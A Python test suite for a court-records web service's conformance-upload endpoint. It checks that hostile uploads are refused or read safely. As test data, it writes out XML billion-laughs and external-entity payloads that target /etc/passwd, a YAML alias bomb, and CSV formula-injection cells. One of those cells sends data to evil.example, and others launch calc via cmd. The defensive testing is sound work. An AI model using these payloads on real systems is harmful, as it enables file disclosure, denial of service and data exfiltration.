"""Uploads to ``POST /api/conformance``: hostile logs and mappings are refused or read safely,
each within a bound of time and memory (a generous budget for a denial-of-service guard,
not a timing of the code): an XES file with a DTD (billion laughs, an external entity
naming a file, a parameter entity fetching a URL) is refused with no entity expanded, no
file read and no connection made; a huge attribute, a deep nesting, a flood of elements; a
CSV with a 10 MB line, a line of millions of cells, NUL bytes, invalid UTF-8, cells that
are spreadsheet formulas; a mapping whose YAML aliases multiply; uploads over the caps, or
without a length. No answer names the server's temporary folder."""

from __future__ import annotations

import socket
import tracemalloc
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from sop_runtime.service import auth
from sop_runtime.service.runtime import Runtime
from sop_runtime.store.db import make_engine
from sop_runtime.web.app import create_app
from tests.conftest import ROOT
from tests.integration.service.conftest import copy_database
from tests.web.hostile import EXAMINER, NOW, bearer, raw_request

MB = 1024 * 1024
SOP = "taksiran-panjar-skum"
MAPPING = (ROOT / "examples" / "skum-januari-2026.map.yaml").read_bytes()
HEADER = (ROOT / "examples" / "skum-januari-2026.csv").read_text(encoding="utf-8").splitlines()[0]
XML = '<?xml version="1.0" encoding="UTF-8"?>\n'
# one case of one event, under the example mapping's names (its kolom: perkara, aktivitas...)
TRACE = ('<trace><string key="perkara" value="1/Pdt.G/2026/PN Snn"/><event>'
         '<string key="aktivitas" value="1. Menerima pendaftaran dan berkas perkara dari '
         'pemohon atau kuasanya"/><string key="pelaksana" value="Rina Marasabessy"/>'
         '<date key="waktu" value="2026-01-05T08:35:00+09:00"/></event></trace>')


@pytest.fixture(scope="module")
def court(tmp_path_factory: pytest.TempPathFactory, demo_day: Path) -> dict[str, Any]:
    db = copy_database(demo_day, tmp_path_factory.mktemp("uploads") / "sop.db")
    rt = Runtime(make_engine(f"sqlite:///{db}"), lambda: NOW)
    return {"app": create_app(rt), "token": bearer(auth.issue_token(rt, EXAMINER, "unggah"))}


@contextmanager
def within(megabytes: int) -> Iterator[None]:
    """The block allocates at most ``megabytes`` at its peak (the app runs in this process:
    every thread's allocations count). A bound that holds stops the work early, so little is
    ever held; how long it takes is bench/fuzz.py's to measure, not a test's."""
    tracemalloc.start()
    try:
        yield
    finally:
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    assert peak < megabytes * MB, f"peak {peak / MB:.0f} MB"


def upload(court: dict[str, Any], name: str, log: bytes, mapping: bytes = MAPPING) -> Any:
    answer = TestClient(court["app"]).post(
        "/api/conformance", headers=court["token"], data={"sop": SOP},
        files={"log": (name, log, "application/octet-stream"),
               "mapping": ("pemetaan.yaml", mapping, "application/yaml")})
    assert "sop-conformance-" not in answer.text and "/tmp" not in answer.text
    assert str(ROOT) not in answer.text and "Traceback" not in answer.text
    return answer


def test_an_honest_xes_log_is_read(court: dict[str, Any]) -> None:
    """The same frame as the hostile files below, without the attack: it is read."""
    answer = upload(court, "log.xes", (XML + f"<log>{TRACE}</log>").encode())
    assert answer.status_code == 200, answer.text
    assert answer.json()["cases"] == 1 and answer.json()["rows"] == 1


LAUGHS = ('<!DOCTYPE log [<!ENTITY a "hahahahaha">'
          + "".join(f'<!ENTITY {chr(98 + i)} "' + f"&{chr(97 + i)};" * 10 + '">'
                    for i in range(9))
          + f']><log><trace><string key="concept:name" value="&j;"/></trace>{TRACE}</log>')


def test_billion_laughs_are_not_expanded(court: dict[str, Any]) -> None:
    with within(50):
        answer = upload(court, "tawa.xes", (XML + LAUGHS).encode())
    assert answer.status_code == 422 and "DTD" in answer.json()["detail"]
    assert "haha" not in answer.text


def test_an_external_entity_reads_no_file(court: dict[str, Any]) -> None:
    for target in ("file:///etc/passwd", f"file://{ROOT}/pyproject.toml"):
        log = (XML + f'<!DOCTYPE log [<!ENTITY x SYSTEM "{target}">]><log><trace>'
               '<string key="concept:name" value="c1"/><event><string key="concept:name" '
               'value="&x;"/></event>&x;</trace></log>')
        answer = upload(court, "xxe.xes", log.encode())
        assert answer.status_code == 422 and "DTD" in answer.json()["detail"]
        assert "root:" not in answer.text and "[project]" not in answer.text


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A port on this machine that records whether anything connects."""
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.setblocking(False)
    yield server
    server.close()


@pytest.mark.parametrize("kind", ["parameter", "general", "doctype"])
def test_an_entity_fetches_no_url(court: dict[str, Any], listener: socket.socket,
                                  kind: str) -> None:
    url = f"http://127.0.0.1:{listener.getsockname()[1]}/bocor.dtd"
    dtd = {"parameter": f'<!DOCTYPE log [<!ENTITY % p SYSTEM "{url}"> %p;]>',
           "general": f'<!DOCTYPE log [<!ENTITY x SYSTEM "{url}">]>',
           "doctype": f'<!DOCTYPE log SYSTEM "{url}">'}[kind]
    answer = upload(court, "url.xes", (XML + dtd + f"<log>{TRACE}&x;</log>").encode())
    assert answer.status_code == 422
    with pytest.raises(BlockingIOError):  # nobody came
        listener.accept()


def test_a_huge_attribute_is_read_within_bounds(court: dict[str, Any]) -> None:
    log = (XML + '<log><trace><string key="concept:name" value="' + "A" * (20 * MB)
           + f'"/></trace>{TRACE}</log>').encode()
    with within(200):
        answer = upload(court, "atribut.xes", log)
    assert answer.status_code == 200 and answer.json()["cases"] == 1


def test_a_deep_nesting_is_refused(court: dict[str, Any]) -> None:
    log = (XML + "<log>" + "<a>" * 200_000 + "</a>" * 200_000 + "</log>").encode()
    with within(50):
        answer = upload(court, "dalam.xes", log)
    assert answer.status_code == 422 and "64" in answer.json()["detail"]


def test_a_flood_of_elements_keeps_memory_flat(court: dict[str, Any]) -> None:
    log = (XML + "<log>" + "<a/>" * 500_000 + TRACE + "</log>").encode()  # 2 MB
    with within(60):
        answer = upload(court, "banjir.xes", log)
    assert answer.status_code == 200 and answer.json()["cases"] == 1


@pytest.mark.parametrize(("name", "line"), [("satu-baris.csv", "x" * (10 * MB)),
                                            ("sel-ribuan.csv", "ab," * (2 * MB))],
                         ids=["10-mb", "millions-of-cells"])
def test_a_monstrous_csv_line_is_refused(court: dict[str, Any], name: str, line: str) -> None:
    log = f"{HEADER}\n{line}\n".encode()
    with within(200):
        answer = upload(court, name, log)
    assert answer.status_code == 422 and f"{name}:2:" in answer.json()["detail"]


def _row(case: str, activity: str, person: str) -> str:
    cells = {"perkara": case, "aktivitas": activity, "pelaksana": person,
             "waktu": "2026-01-05T08:35:00+09:00"}
    return ",".join('"' + cells.get(h, "").replace('"', '""') + '"' for h in HEADER.split(","))


def test_nul_bytes_in_a_csv_are_read_as_text(court: dict[str, Any]) -> None:
    row = _row("1/Pdt\x00.G", "Meneri\x00ma", "Rina\x00")
    log = f"{HEADER}\n{row}\n".encode()
    answer = upload(court, "nul.csv", log)
    assert answer.status_code == 200, answer.text
    assert answer.json()["cases"] == 1


def test_invalid_utf8_is_refused_naming_the_upload(court: dict[str, Any]) -> None:
    answer = upload(court, "rusak.csv", HEADER.encode() + b"\n\xff\xfe\xfa,x\n")
    assert answer.status_code == 422
    assert answer.json()["detail"].startswith("rusak.csv: ") and "UTF-8" in answer.text


FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"klik")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]


def test_formula_cells_come_back_as_text(court: dict[str, Any]) -> None:
    rows = [_row(f, f, f) for f in FORMULAS]
    answer = upload(court, "rumus.csv", ("\n".join([HEADER, *rows]) + "\n").encode())
    assert answer.status_code == 200, answer.text
    cases = {c["case"] for c in answer.json()["case_results"]}
    assert cases == set(FORMULAS)  # text, as written: nothing evaluated
    assert set(answer.json()["unknown_people"]) >= set(FORMULAS)


def test_a_mapping_whose_aliases_multiply_is_refused(court: dict[str, Any]) -> None:
    lines = ["sop: taksiran-panjar-skum", 'a0: &a0 ["ha", "ha", "ha", "ha", "ha", "ha"]']
    lines += [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]" for i in range(1, 9)]
    lines += ["aktivitas: *a8"]
    with within(100):
        answer = upload(court, "log.csv", f"{HEADER}\n".encode(), "\n".join(lines).encode())
    assert answer.status_code == 400 and "alias" in answer.text


def test_a_mapping_over_its_cap_is_refused(court: dict[str, Any]) -> None:
    answer = upload(court, "log.csv", f"{HEADER}\n".encode(), b"# " + b"x" * MB + b"\n")
    assert answer.status_code == 413


def _raw(court: dict[str, Any], length: str | None, body: bytes = b"") -> Any:
    headers = {**court["token"], "content-type": "multipart/form-data; boundary=batas"}
    if length is not None:
        headers["content-length"] = length
    return raw_request(court["app"], "POST", b"/api/conformance", headers=headers, body=body)


def test_an_upload_announced_over_the_cap_is_refused_unread(court: dict[str, Any]) -> None:
    answer = _raw(court, str(60 * MB), b"--batas--\r\n")
    assert answer.status == 413 and "MB" in answer.text


@pytest.mark.parametrize("length", [None, "-1", "12abc", "1e9"])
def test_an_upload_without_an_honest_length_is_refused(court: dict[str, Any],
                                                       length: str | None) -> None:
    answer = _raw(court, length)
    assert answer.status in (400, 411), answer.text


def test_more_parts_than_the_form_has_are_refused(court: dict[str, Any]) -> None:
    answer = TestClient(court["app"]).post(
        "/api/conformance", headers=court["token"], data={"sop": SOP},
        files=[("log", ("a.csv", b"x\n", "text/csv")), ("mapping", ("m.yaml", MAPPING, "x")),
               ("lagi", ("b.csv", b"x\n", "text/csv"))])
    assert answer.status_code == 400
    text_field = TestClient(court["app"]).post(
        "/api/conformance", headers=court["token"],
        data={"sop": SOP, "mapping": "x" * (70 * 1024)},
        files={"log": ("a.csv", b"x\n", "text/csv")})
    assert text_field.status_code == 400
